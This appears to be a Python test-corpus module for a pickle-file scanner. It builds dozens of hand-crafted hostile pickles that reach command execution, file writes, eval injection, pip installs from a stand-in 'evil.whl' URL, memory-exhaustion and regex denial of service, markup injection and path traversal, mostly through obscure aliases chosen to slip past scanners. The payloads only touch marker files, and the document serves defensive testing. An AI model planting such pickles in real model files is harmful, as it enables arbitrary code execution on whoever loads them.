"""Hostile pickles that were written by hand: opcodes that no pickler writes, names that few would think of."""

import marshal
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.testbench.corpus.world import World

Make = Callable[[Path, World], Path]


def calling(module: str, name: str, *arguments: Any) -> Make:
    """A function, called with these; MARKER and the like are filled in."""

    def make(folder: Path, world: World) -> Path:
        places = {"MARKER": str(world.marker), "VICTIM": str(world.victim)}
        filled = tuple(places.get(each, world.fill(each)) if isinstance(each, str) else each for each in arguments)
        text = b"\x80\x04" + _text(module) + _text(name) + b"\x93" + _of(filled) + b"R."
        (folder / "model.pkl").write_bytes(text)
        return folder / "model.pkl"

    return make


def opcodes(text: bytes) -> Make:
    """MARK stands for the path of the marker."""

    def make(folder: Path, world: World) -> Path:
        (folder / "model.pkl").write_bytes(text.replace(b"MARK", str(world.marker).encode()))
        return folder / "model.pkl"

    return make


def _text(text: str) -> bytes:
    return b"X" + len(text).to_bytes(4, "little") + text.encode()


def _of(thing: Any) -> bytes:
    """The opcodes that leave it on the stack."""
    return pickle.dumps(thing, 2)[2:-1]


def _marshalled(folder: Path, world: World) -> Path:
    code = marshal.dumps(compile(world.fill("open(MARKER, 'w')"), "x", "exec"))
    text = b"\x80\x04ctypes\nFunctionType\n(cmarshal\nloads\n(" + _of(code) + b"tR}tR)R."
    (folder / "model.pkl").write_bytes(text)
    return folder / "model.pkl"


def _pickle_in_pickle(module: str) -> Make:
    def make(folder: Path, world: World) -> Path:
        inner = b"cbuiltins\nopen\n(" + _of(str(world.marker)) + _of("w") + b"tR."
        (folder / "model.pkl").write_bytes(f"c{module}\nloads\n(".encode() + _of(inner) + b"tR.")
        return folder / "model.pkl"

    return make


def _laughs(folder: Path, world: World) -> Path:
    """Lists of lists: a line of it is short, all of it is a milliard."""
    del world
    thing: Any = ["ha"] * 10
    for _ in range(30):
        thing = [thing] * 10
    (folder / "model.pkl").write_bytes(pickle.dumps(thing))
    return folder / "model.pkl"


SYSTEM = "touch MARKER"
FILES: dict[str, Make] = {
    "os.system by its other name": calling("nt", "system", SYSTEM),
    "a name with points": calling("os", "path.os.system", SYSTEM),
    "a name through a library": calling("sklearn.utils", "os.system", SYSTEM),
    "a name through pandas": calling("pandas.io.common", "os.system", SYSTEM),
    "a name through joblib": calling("joblib.parallel", "os.system", SYSTEM),
    "subprocess.getoutput": calling("subprocess", "getoutput", SYSTEM),
    "commands of Python 2": calling("commands", "getoutput", SYSTEM),
    "open": calling("builtins", "open", "MARKER", "w"),
    "io.open": calling("_io", "open", "MARKER", "w"),
    "a file by numpy": calling("numpy", "memmap", "MARKER", "uint8", "w+", 0, 16),
    "numpy's save": calling("numpy", "savetxt", "MARKER", [1]),
    "shutil": calling("shutil", "copyfile", "/etc/hostname", "MARKER"),
    "os.remove": calling("os", "remove", "VICTIM"),
    "pathlib": calling("pathlib", "Path.touch", "x"),
    "pty.spawn": calling("pty", "spawn", ["touch", "MARKER"]),
    "code": calling("code", "interact", SYSTEM),
    "pdb": calling("pdb", "run", "open('x', 'w')"),
    "pydoc": calling("pydoc", "pipepager", "x", SYSTEM),
    "doctest": calling("doctest", "script_from_examples", ">>> open('x', 'w')"),
    "lib2to3": calling("lib2to3.pgen2.pgen", "generate_grammar", "MARKER"),
    "pip by its name": calling("pip", "main", ["install", "http://127.0.0.1/evil.whl"]),
    "a module by its name": calling("importlib", "import_module", "antigravity"),
    "urlopen": calling("urllib.request", "urlretrieve", "http://127.0.0.1:80/", "MARKER"),
    "a query of pandas": calling("pandas.core.computation.eval", "eval", "__import__('os').system(\"touch MARKER\")"),
    "numexpr by numpy": calling("numpy.f2py.crackfortran", "myeval", "__import__('os').system(\"touch MARKER\")"),
    "ctypes": calling("ctypes", "CDLL", "MARKER"),
    "exit": calling("builtins", "exit", 0),
    "input": calling("builtins", "input"),
    "breakpoint": calling("builtins", "breakpoint"),
    "a pickle in a pickle": _pickle_in_pickle("pickle"),
    "a pickle in a dill": _pickle_in_pickle("cloudpickle"),
    "marshalled code": _marshalled,
    "a milliard of laughs": _laughs,
    "a persistent id": opcodes(b"\x80\x04PMARK\n."),
    "an extension": opcodes(b"\x80\x04\x82\x01."),
    "a state that runs something": opcodes(
        b"\x80\x04csklearn.base\nBaseEstimator\n)\x81}"
        + _of("__setstate__") + b"cbuiltins\neval\nsb" + _of("open('x', 'w')") + b"b."
    ),
    "text instead of numbers": opcodes(b"I" + b"9" * 2_000_000 + b"\n."),
    "a number of four milliards of bytes": opcodes(b"\x80\x04\x8b\xff\xff\xff\x7f" + b"\xff" * 100 + b"."),
    "a frame that lies": opcodes(b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN."),
    "an empty stack": opcodes(b"\x80\x040000RRRbbb."),
    "a mark that nobody set": opcodes(b"\x80\x04tu."),
    "a list in itself": opcodes(b"\x80\x04]q\x00h\x00ah\x00}h\x00h\x00s."),
    "an array of a milliard": opcodes(
        b"\x80\x04cnumpy\nndarray\n((K\x00K\x00t(J\xff\xff\xff\x7fJ\xff\xff\xff\x7ftcnumpy\nfloat64\ntR."
    ),
    "bytes by the milliard": opcodes(b"\x80\x04cbuiltins\nbytearray\n(\x8a\x05\x00\x00\x00\x00\x10tR."),
    "a range to multiply": opcodes(
        b"\x80\x04cbuiltins\nlist\n(cbuiltins\nrange\n(\x8a\x06\x00\x00\x00\x00\x00\x10tRtR."
    ),
    "a pattern that takes for ever": calling("re", "match", "(a+)+$", "a" * 40 + "b"),
    "a name of markup": opcodes(b"\x80\x04c<img src=x onerror=window.corpus=1>\n\x1b[2J<b>x</b>\n)\x81."),
    "a name that is no text": opcodes(b"\x80\x04c\xff\xfe\n\xff\xfe\n)\x81."),
    "a module that is a path": opcodes(b"\x80\x04c../../../MARK\nx\n)\x81."),
}  # fmt: skip
